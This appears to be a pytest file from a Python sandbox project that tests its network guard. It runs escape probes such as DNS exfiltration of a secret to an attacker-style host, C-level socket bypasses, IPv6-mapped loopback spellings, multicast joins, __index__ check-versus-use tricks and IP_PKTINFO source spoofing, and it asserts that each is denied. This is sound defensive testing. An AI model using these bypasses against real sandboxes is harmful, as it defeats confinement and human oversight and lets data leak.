"""Group E of attacks.md: network, exfiltration and DNS. A pong server
listens on 127.0.0.1 (the session's tcp_port) and each rule file allows
exactly that port; every attack aims elsewhere, or by a route that should
not be judged as allowed. Under landlock the kernel also confines the TCP
ports of native code (group N); here the guard refuses first."""

import os
import socket
import textwrap
import threading

import pytest

from harness import attack

ERR = "RuleSocketConnectionRefusedError"
SECRET = "secret-data.attacker.invalid"

PRELUDE = '''
import socket, _socket, sys
P = int(sys.argv[1])
Q = P + 1 if P < 65535 else P - 1
'''


def implicit(ip, port):
    return (f"Guard network connection to '[{ip}]:{port}' DENIED by "
            "implicit default policy.")


def unnamed(host):
    return (f"Guard name resolution of '{host}' DENIED: no net= rule names "
            f"this host. Add net=ALLOW|TCP|{host}|<port>|OUT to resolve and "
            "reach it (an address rule allows addresses, not lookups).")


def other(p):
    return p + 1 if p < 65535 else p - 1


def allow(p):
    return f"python-import=*\nnet=ALLOW|TCP|127.0.0.1|{p}|OUT\n"


def probes(d):
    """Each body gets P (the allowed port) and Q (another one)."""
    return {k: PRELUDE + v for k, v in d.items()}


@attack("E1", "connect outside net= (raw socket, create_connection)")
def test_E1(case, judge, tcp_port):
    out = case.run(allow(tcp_port), probes({
        # the negative control asks that the port be reachable; under
        # bwrap and firejail the way out is Debian 12's pasta (2023-03),
        # and twice in CI on a loaded runner a connection through it read
        # b'' (weaknesses.md 137): three connections, the first answer
        "allowed": "import time\n"
                   "for _ in range(3):\n"
                   "    s = socket.create_connection(('127.0.0.1', P), 60)\n"
                   "    s.sendall(b'ping')\n"
                   "    r = s.recv(4)\n"
                   "    s.close()\n"
                   "    if r:\n"
                   "        break\n"
                   "    time.sleep(0.5)\n"
                   "return r",
        "raw": "socket.socket().connect(('127.0.0.1', Q))",
        "helper": "socket.create_connection(('127.0.0.1', Q), 5)",
        "address": "socket.socket().connect(('127.0.0.2', P))",
    }), args=[tcp_port])
    # the negative control: the rule's own port is reachable
    assert out["allowed"].escaped and out["allowed"].msg == "b'pong'", \
        out["allowed"]
    q = other(tcp_port)
    judge.python(out["raw"], ERR, implicit("127.0.0.1", q))
    judge.python(out["helper"], ERR, implicit("127.0.0.1", q))
    judge.python(out["address"], ERR, implicit("127.0.0.2", tcp_port))


@attack("E3", "The C base class _socket.socket")
def test_E3(case, judge, tcp_port):
    out = case.run(allow(tcp_port), probes({
        "c_class": "_socket.socket().connect(('127.0.0.1', Q))",
        "mro": "socket.socket.__mro__[1]().connect(('127.0.0.1', Q))",
        # a copy of _socket outside sys.modules: a class of its own (3.12+)
        "copy": "import importlib.util as u; s = u.find_spec('_socket'); "
                "m = u.module_from_spec(s); s.loader.exec_module(m); "
                "m.socket().connect(('127.0.0.1', Q))",
    }), args=[tcp_port])
    q = other(tcp_port)
    judge.python(out["c_class"], ERR, implicit("127.0.0.1", q))
    judge.python(out["mro"], ERR, implicit("127.0.0.1", q))
    judge.python(out["copy"], ERR, implicit("127.0.0.1", q))


@attack("E5", "Reverse lookup (gethostbyaddr, getnameinfo)")
def test_E5(case, judge, tcp_port):
    out = case.run(allow(tcp_port), probes({
        "byaddr": "return socket.gethostbyaddr('192.0.2.1')",
        "nameinfo": "return socket.getnameinfo(('192.0.2.1', 80), 0)",
        "c_twin": "return _socket.gethostbyaddr('192.0.2.1')",
    }), args=[tcp_port])
    msg = ("Guard reverse lookup of '192.0.2.1' DENIED: no net= rule "
           "names this address. Name its host in a net= rule "
           "(net=ALLOW|TCP|<host>|<port>|OUT), or ask with NI_NUMERICHOST.")
    for label in ("byaddr", "nameinfo", "c_twin"):
        judge.python(out[label], ERR, msg)


@attack("E7", "UDP sendmsg carrying an address")
def test_E7(case, judge, tcp_port):
    out = case.run(allow(tcp_port), probes({
        "sendmsg": "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                   "s.sendmsg([b'x'], [], 0, ('127.0.0.1', P))",
        "sendto": "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                  "s.sendto(b'x', ('127.0.0.1', P))",
    }), args=[tcp_port])
    # the rule allows TCP to P, not UDP
    judge.python(out["sendmsg"], ERR, implicit("127.0.0.1", tcp_port))
    judge.python(out["sendto"], ERR, implicit("127.0.0.1", tcp_port))


@attack("E8", "TCP Fast Open (sendto with MSG_FASTOPEN connects)")
def test_E8(case, judge, tcp_port):
    out = case.run(allow(tcp_port), probes({
        "tfo": "s = socket.socket()\n"
               "return s.sendto(b'x', socket.MSG_FASTOPEN, "
               "('127.0.0.1', Q))",
    }), args=[tcp_port])
    judge.python(out["tfo"], ERR, implicit("127.0.0.1", other(tcp_port)))


def _ipv6():
    try:
        with socket.socket(socket.AF_INET6) as s:
            s.bind(("::1", 0))
        return True
    except OSError:
        return False


@pytest.mark.skipif(not _ipv6(), reason="no IPv6 loopback on this machine")
@attack("E9", "IPv4 hidden in IPv6 (::ffff:, NAT64, IPv4-compatible)")
def test_E9(case, judge, tcp_port):
    deny = "net=DENY|TCP|127.0.0.1|*|OUT"
    forms = ["::ffff:127.0.0.1", "::ffff:0:127.0.0.1", "::127.0.0.1",
             "64:ff9b::127.0.0.1"]
    out = case.run(f"python-import=*\nnet=ALLOW|TCP|*|*|OUT\n{deny}\n",
                   probes({f"form{i}": f"socket.socket(socket.AF_INET6)"
                           f".connect(({a!r}, P))"
                           for i, a in enumerate(forms)}), args=[tcp_port])
    for i, a in enumerate(forms):
        shown = socket.inet_ntop(socket.AF_INET6,
                                 socket.inet_pton(socket.AF_INET6, a))
        judge.python(out[f"form{i}"], ERR,
                     f"Guard network connection to [{shown}]:{tcp_port} "
                     f"DENIED by rule '{deny}' from .py-sandboxes(3).")


@attack("E10", "listen() without bind(): the kernel binds the wildcard")
def test_E10(case, judge, tcp_port):
    out = case.run("python-import=*\nnet=ALLOW|TCP|127.0.0.1|*|IN\n",
                   probes({"listen": "socket.socket().listen()"}),
                   args=[tcp_port])
    judge.python(out["listen"], ERR, implicit("0.0.0.0", 0))


@attack("E12", "Abstract AF_UNIX addresses (a policy short of the whole "
                "network)")
def test_E12(case, judge, tcp_port):
    out = case.run("python-import=*\nnet=ALLOW|TCP,UDP|*|*|OUT\n", probes({
        "connect": "socket.socket(socket.AF_UNIX).connect('\\0pysb-x')",
        "sendto": "socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)"
                  ".sendto(b'x', b'\\0pysb-x')",
    }), args=[tcp_port])
    why = "DENIED: abstract AF_UNIX addresses cannot be evaluated by a rule."
    judge.python(out["connect"], ERR,
                 f"Guard connect to '\\x00pysb-x' {why}")
    judge.python(out["sendto"], ERR,
                 f"Guard sendto to b'\\x00pysb-x' {why}")


@attack("E15", "DNS exfiltration: resolve <secret>.attacker.tld")
def test_E15(case, judge, tcp_port):
    out = case.run(f"python-import=*\nnet=ALLOW|TCP|localhost|{tcp_port}|OUT"
                   "\n", probes({
                       "gai": f"return socket.getaddrinfo({SECRET!r}, 80)",
                       "c_twin": f"return _socket.getaddrinfo({SECRET!r}, "
                                 "80)",
                       "byname": f"return socket.gethostbyname({SECRET!r})",
                   }), args=[tcp_port])
    msg = unnamed(SECRET)
    for label in ("gai", "c_twin", "byname"):
        judge.python(out[label], ERR, msg)


@attack("E24", "Loopback by another spelling (0.0.0.0, ::, 0, 127.1, "
        "::ffff:0.0.0.0) past a DENY of loopback")
def test_E24(case, judge, tcp_port):
    deny4, deny6 = "net=DENY|*|127.0.0.0/8|*|OUT", "net=DENY|*|::1|*|OUT"
    d = {
        "any": "socket.socket().connect(('0.0.0.0', P))",
        "zero": "socket.socket().connect(('0', P))",
        "short": "socket.socket().connect(('127.1', P))",
        "helper": "socket.create_connection(('0', P), 5)",
        "c_class": "_socket.socket().connect(('0.0.0.0', P))",
        "udp": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
               ".sendto(b'x', ('0', P))",
    }
    if _ipv6():
        d["any6"] = "socket.socket(socket.AF_INET6).connect(('::', P))"
        d["mapped"] = ("socket.socket(socket.AF_INET6)"
                       ".connect(('::ffff:0.0.0.0', P))")
    out = case.run(f"python-import=*\n{deny4}\n{deny6}\n"
                   "net=ALLOW|*|*|*|*\n", probes(d), args=[tcp_port])
    p = tcp_port
    loop4 = " The kernel connects to 127.0.0.1."

    def by(ip, rule, line, note=""):
        return (f"Guard network connection to [{ip}]:{p} DENIED by rule "
                f"'{rule}' from .py-sandboxes({line}).{note}")

    for label in ("any", "zero", "helper", "c_class", "udp"):
        judge.python(out[label], ERR, by("0.0.0.0", deny4, 2, loop4))
    judge.python(out["short"], ERR, by("127.0.0.1", deny4, 2))
    if _ipv6():
        judge.python(out["any6"], ERR,
                     by("::", deny6, 3, " The kernel connects to ::1."))
        judge.python(out["mapped"], ERR,
                     by("::ffff:0.0.0.0", deny4, 2, loop4))


DNS_QUERY = '''
import struct
def query(name):
    b = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        b += bytes([len(label)]) + label.encode()
    return b + b"\\0\\0\\1\\0\\1"
Q = query(%r)
'''


@attack("E25", "DNS exfiltration through a resolver a net= rule allows")
def test_E25(case, judge, tcp_port):
    out = case.run(
        "python-import=*\nnet=ALLOW|UDP|127.0.0.1|53|OUT\n"
        "net=ALLOW|TCP|127.0.0.1|53|OUT\n"
        f"net=ALLOW|TCP|localhost|{tcp_port}|OUT\n",
        {k: PRELUDE + DNS_QUERY % SECRET + v for k, v in {
            "query": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
                     ".sendto(Q, ('127.0.0.1', 53))",
            "c_class": "_socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
                       ".sendto(Q, ('127.0.0.1', 53))",
            "connected": "s = socket.socket(socket.AF_INET, "
                         "socket.SOCK_DGRAM)\n"
                         "s.connect(('127.0.0.1', 53))\ns.send(Q)",
            "stream": "socket.socket().connect(('127.0.0.1', 53))",
            "gai": f"socket.getaddrinfo({SECRET!r}, 53)",
        }.items()}, args=[tcp_port])
    # _socket's C class has the same wrappers as socket.socket (they are
    # its): its sendto reads the query too (weaknesses.md 14)
    for label in ("query", "c_class"):
        judge.python(out[label], ERR,
                     f"Guard DNS query for '{SECRET}' DENIED: no net= rule "
                     f"names this host. Add net=ALLOW|TCP|{SECRET}|<port>|"
                     "OUT to resolve and reach it (an address rule allows "
                     "addresses, not lookups).")
    why = ("DENIED: port 53 carries DNS queries; one is sent only with "
           "sendto() on a UDP socket, for a host a net= rule names "
           "(net=ALLOW|TCP|<host>|<port>|OUT). net=ALLOW|UDP|*|53|OUT lets "
           "every name through.")
    judge.python(out["connected"], ERR,
                 f"Guard connect to ('127.0.0.1', 53) {why}")
    judge.python(out["stream"], ERR,
                 f"Guard connect to ('127.0.0.1', 53) {why}")
    judge.python(out["gai"], ERR, unnamed(SECRET))


def _memberships(groups, stop, seen):
    """Poll the host's multicast memberships (/proc/net/igmp, igmp6: the
    groups every process of this network namespace joined, as the host
    sees them) until stop is set; record each group of 'groups' found."""
    while not stop.is_set():
        for name in ("/proc/net/igmp", "/proc/net/igmp6"):
            try:
                with open(name) as f:
                    text = f.read().lower()
            except OSError:
                continue
            seen.update(g for g in groups if g in text)
        stop.wait(0.02)


E30_PROBES = {
    "join4": """
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        mreq = socket.inet_aton('239.83.69.67') + bytes(4)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                     mreq)
        import time; time.sleep(1)
        """,
    "join6": """
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        mreq = socket.inet_pton(socket.AF_INET6,
                                'ff0e::5345:4352:4554') + bytes(4)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP,
                     mreq)
        import time; time.sleep(1)
        """,
    "index": """
        class Twice:
            n = 0
            def __index__(self):
                Twice.n += 1
                return (socket.IP_TTL if Twice.n == 1
                        else socket.IP_ADD_MEMBERSHIP)
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        mreq = socket.inet_aton('239.83.69.67') + bytes(4)
        try:
            s.setsockopt(socket.IPPROTO_IP, Twice(), mreq)
        except OSError:
            pass  # IP_TTL with an 8-byte value: EINVAL
        import time; time.sleep(1)
        return Twice.n
        """,
    # an __index__ that fails the first reading and answers the second:
    # the call never reads an argument the guard could not
    "late": """
        class Late:
            n = 0
            def __index__(self):
                Late.n += 1
                if Late.n == 1:
                    raise TypeError('not yet')
                return socket.IP_ADD_MEMBERSHIP
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        mreq = socket.inet_aton('239.83.69.67') + bytes(4)
        try:
            s.setsockopt(socket.IPPROTO_IP, Late(), mreq)
        except TypeError:
            pass
        import time; time.sleep(1)
        return Late.n
        """,
    # the value's conversion swaps the descriptor for an inet socket after
    # the guard read a Unix socket's family
    "swap": """
        import os
        a, b = socket.socketpair()
        inet = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        class Swap(bytearray):
            def __index__(self):
                os.dup2(inet.fileno(), a.fileno())
                raise TypeError('a buffer')
        mreq = socket.inet_aton('239.83.69.67') + bytes(4)
        a.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                     Swap(mreq))
        import time; time.sleep(1)
        return 'set'
        """,
}


@attack("E30", "a multicast join from Python: an IGMP/MLD report carries "
        "the group's address on the local network, no net= rule judges it")
def test_E30(case, judge, tcp_port):
    """setsockopt(IP_ADD_MEMBERSHIP) made the kernel send a membership
    report with the group address the program chose (28 bits a packet
    over IGMP, 112 over MLD) onto the local network, under a policy that
    allows one loopback port. The seccomp filter holds native code
    (K24); under subprocess nothing judged the Python call. Evidence from
    outside: the host's membership table while the program runs. The
    level, option and value are also read once: an __index__ answering
    IP_TTL to a check and IP_ADD_MEMBERSHIP to the call, or failing the
    guard's reading and answering the call's, joins nothing, nor does a
    value whose conversion swaps a Unix socket's descriptor for an inet
    one after the guard read its family."""
    groups = {"434553ef": "239.83.69.67",  # /proc/net/igmp: little-endian
              "ff0e0000000000000000534543524554": "ff0e::5345:4352:4554"}
    stop, seen = threading.Event(), set()
    poller = threading.Thread(target=_memberships,
                              args=(list(groups), stop, seen))
    poller.start()
    try:
        out = case.run(allow(tcp_port), probes(
            {k: textwrap.dedent(v) for k, v in E30_PROBES.items()}),
            args=[tcp_port])
    finally:
        stop.set()
        poller.join()
    for label, opt in (("join4", 35), ("join6", 20)):
        level = 0 if label == "join4" else 41
        judge.python(out[label], ERR,
                     f"Guard setsockopt({level}, {opt}) DENIED: the option "
                     "is not one a net= rule can evaluate (a multicast "
                     "membership reports its group on the local network; "
                     "source routing, a device binding, kernel TLS...): "
                     "only a policy that allows the whole network lets it "
                     "be set.")
    assert out["index"].msg == "1", out["index"]
    assert out["late"].msg == "1", out["late"]
    judge.python(out["swap"], ERR,
                 "Guard setsockopt(0, 35) DENIED: the option is not one a "
                 "net= rule can evaluate (a multicast membership reports its "
                 "group on the local network; source routing, a device "
                 "binding, kernel TLS...): only a policy that allows the "
                 "whole network lets it be set.")
    assert not seen, f"groups joined on the host: {sorted(seen)}"


SERVICES = "Access to '/etc/services' must be accepted by a rule."


@attack("E40", "a service name given to the resolver: glibc reads "
        "/etc/services (getaddrinfo's port, getnameinfo's service)")
def test_E40(case, judge, tcp_port):
    """socket.getservbyname('http') is judged as a read of /etc/services
    (sysfiles.c), but getaddrinfo(host, 'http') and getnameinfo(sa, 0)
    made glibc read the same file with no judgement: the program learned
    its content (here the port of 'http', 80) under a policy that does
    not expose it, under os-sandbox=subprocess with nothing else in the
    way. Both are judged now as getservbyname is, with its message:
    getaddrinfo's port when it is not a number (str, bytes, one with a
    NUL), getnameinfo unless the flags (read once, by the wrapper) hold
    NI_NUMERICSERV, and the worst when the wrapper could not read them."""
    out = case.run(allow(tcp_port), probes({k: textwrap.dedent(v) for k, v in {
        "numeric": "return socket.getaddrinfo('127.0.0.1', '80')[0][4]",
        "numeric_nameinfo": """
            return socket.getnameinfo(('127.0.0.1', 80),
                socket.NI_NUMERICHOST | socket.NI_NUMERICSERV)""",
        "gai": "return socket.getaddrinfo('127.0.0.1', 'http')[0][4]",
        "gai_bytes": "return _socket.getaddrinfo('127.0.0.1', b'http')"
                     "[0][4]",
        "gai_nul": "return socket.getaddrinfo('127.0.0.1', 'http\\0x')"
                   "[0][4]",
        "nameinfo": """
            return socket.getnameinfo(('127.0.0.1', 80),
                                      socket.NI_NUMERICHOST)""",
        "nameinfo_c": """
            return _socket.getnameinfo(('127.0.0.1', 80),
                                       socket.NI_NUMERICHOST)""",
        # flags the wrapper does not read (not an int): the worst
        "nameinfo_index": """
            class F:
                def __index__(self):
                    return socket.NI_NUMERICHOST
            return socket.getnameinfo(('127.0.0.1', 80), F())""",
    }.items()}), args=[tcp_port])
    # the negative controls: numbers read no file
    assert out["numeric"].msg == "('127.0.0.1', 80)", out["numeric"]
    assert out["numeric_nameinfo"].msg == "('127.0.0.1', '80')", \
        out["numeric_nameinfo"]
    for label in ("gai", "gai_bytes", "gai_nul", "nameinfo", "nameinfo_c",
                  "nameinfo_index"):
        judge.python(out[label], "RuleFileNotFoundError", SERVICES)


def _udp_sources(sock, stop, seen):
    """Record (payload, source address) of each datagram on sock."""
    sock.settimeout(0.2)
    while not stop.is_set():
        try:
            data, addr = sock.recvfrom(256)
        except OSError:
            continue
        seen.append((data.decode(errors="replace"), addr[0]))


E41_PRELUDE = '''
import socket, _socket, struct, sys
U = int(sys.argv[1])
DST = ('127.0.0.1', U)
IP_PKTINFO = 8
# struct in_pktinfo: interface 0, source 127.0.0.3, no destination
PK = struct.pack('=I4s4s', 0, socket.inet_aton('127.0.0.3'), bytes(4))
'''

E41_PROBES = {
    "ttl": "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
           "return s.sendmsg([b'ttl'], [(socket.IPPROTO_IP, socket.IP_TTL,"
           " struct.pack('i', 5))], 0, DST)",
    "pktinfo": "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
               "return s.sendmsg([b'pktinfo'], [(socket.IPPROTO_IP, "
               "IP_PKTINFO, PK)], 0, DST)",
    "connected": "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                 "s.connect(DST)\n"
                 "return s.sendmsg([b'connected'], [(socket.IPPROTO_IP, "
                 "IP_PKTINFO, PK)])",
    "c_class": "s = _socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
               "return s.sendmsg([b'c_class'], [(socket.IPPROTO_IP, "
               "IP_PKTINFO, PK)], 0, DST)",
    "generator": "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                 "return s.sendmsg([b'generator'], (m for m in [("
                 "socket.IPPROTO_IP, IP_PKTINFO, PK)]), 0, DST)",
    # an __index__ answering IP_TTL to a check and IP_PKTINFO to the call
    "index": """
        class Twice:
            n = 0
            def __index__(self):
                Twice.n += 1
                return socket.IP_TTL if Twice.n == 1 else IP_PKTINFO
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.sendmsg([b'index'], [(socket.IPPROTO_IP, Twice(), PK)], 0,
                      DST)
        except OSError:
            pass  # IP_TTL with a 12-byte value: EINVAL
        return Twice.n
        """,
}


@attack("E41", "sendmsg's control messages: IP_PKTINFO picks the source "
        "address or interface (SCM_CREDENTIALS, SO_MARK...)")
def test_E41(case, judge):
    """Under os-sandbox=subprocess the guard judged sendmsg's address but
    not its ancillary data: IP_PKTINFO sent a datagram from a source
    address (or out of an interface) of the program's choice, and
    SCM_CREDENTIALS, SO_MARK or IP_RETOPTS went as they were, while the
    supervisor of the kernel providers passes only descriptors, IP_TOS,
    IP_TTL, IPV6_TCLASS, IPV6_HOPLIMIT, IPV6_DONTFRAG and UDP_SEGMENT.
    The guard now judges each control message against that same list
    (src/base/sockopt.c), reading the data once (a generator, an
    __index__ answering twice), on socket.socket and on _socket.socket.
    Evidence from outside: the source address of what a UDP listener the
    rules allow receives."""
    rx = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    rx.bind(("127.0.0.1", 0))
    u = rx.getsockname()[1]
    stop, seen = threading.Event(), []
    t = threading.Thread(target=_udp_sources, args=(rx, stop, seen))
    t.start()
    try:
        out = case.run(f"python-import=*\nnet=ALLOW|UDP|127.0.0.1|{u}|OUT\n",
                       {k: E41_PRELUDE + textwrap.dedent(v)
                        for k, v in E41_PROBES.items()}, args=[u])
        for _ in range(10):  # the control's datagram, if still queued
            if any(p == "ttl" for p, _ in seen):
                break
            stop.wait(0.2)
    finally:
        stop.set()
        t.join()
        rx.close()
    assert out["ttl"].msg == "3", out["ttl"]  # bytes sent
    assert ("ttl", "127.0.0.1") in seen, seen
    msg = ("Guard sendmsg control message (0, 8) DENIED: it is not one a "
           "net= rule can evaluate (IP_PKTINFO chooses the source address "
           "or interface, SCM_CREDENTIALS speaks for a process, SO_MARK "
           "routes, IP_RETOPTS source-routes...): only descriptors "
           "(SCM_RIGHTS), IP_TOS, IP_TTL, IPV6_TCLASS, IPV6_HOPLIMIT, "
           "IPV6_DONTFRAG and UDP_SEGMENT pass, unless the policy allows "
           "the whole network.")
    for label in ("pktinfo", "connected", "c_class", "generator"):
        judge.python(out[label], ERR, msg)
    assert out["index"].msg == "1", out["index"]  # read once
    spoofed = [s for s in seen if s[1] != "127.0.0.1"]
    assert not spoofed, spoofed


def _accepts(srv, stop, seen):
    """Count the connections srv (a listening socket) accepts."""
    srv.settimeout(0.2)
    while not stop.is_set():
        try:
            c, _ = srv.accept()
        except OSError:
            continue
        seen.append(1)
        c.close()


@attack("E42", "libuuid reaches the uuidd daemon's socket (uuid.uuid1, "
        "uuid.getnode) and writes its clock file")
def test_E42(case, judge):
    """_uuid was an ordinary module, but libuuid's
    uuid_generate_time_safe() connects to /run/uuidd/request (a host
    daemon) and creates /var/lib/libuuid/clock.txt, with no audit event:
    under subprocess uuid.uuid1() reached a daemon and wrote a file outside
    the rules. Judged now as writes of those (a socket needs expose-rw=, as
    connect() to it), each when its directory is there. Evidence from
    outside: a listener standing in for uuidd counts the connections.
    Skipped where a real uuidd runs (its directory is not ours to use)."""
    if os.geteuid() != 0:
        pytest.skip("making /run/uuidd needs root")
    if os.path.exists("/run/uuidd"):
        pytest.skip("/run/uuidd exists: a real uuidd is not ours to use")
    os.mkdir("/run/uuidd", 0o755)
    srv = socket.socket(socket.AF_UNIX)
    try:
        srv.bind("/run/uuidd/request")
        os.chmod("/run/uuidd/request", 0o666)  # reachable as nobody too
        srv.listen(8)
        stop, seen = threading.Event(), []
        t = threading.Thread(target=_accepts, args=(srv, stop, seen))
        t.start()
        try:
            out = case.run("python-import=*\n", {
                "uuid1": "import uuid\nreturn uuid.uuid1().version",
                "c_twin": "import _uuid\nreturn _uuid.generate_time_safe()"
                          "[1]",
            })
            stop.wait(1)
        finally:
            stop.set()
            t.join()
    finally:
        srv.close()
        os.unlink("/run/uuidd/request")
        os.rmdir("/run/uuidd")
    msg = "Access to '/run/uuidd/request' must be accepted by a rule."
    # unshare and bwrap give the sandbox its own /run: no uuidd there,
    # libuuid reaches nothing (the listener is the judge)
    own_run = case.os_sandbox in ("unshare", "bwrap")
    for label in ("uuid1", "c_twin"):
        if own_run and out[label].escaped:
            judge._record("refused by kernel (the sandbox's own /run)",
                          repr(out[label]))
            continue
        judge.python(out[label], "RuleFileNotFoundError", msg)
    assert not seen, f"{len(seen)} connections reached the daemon"
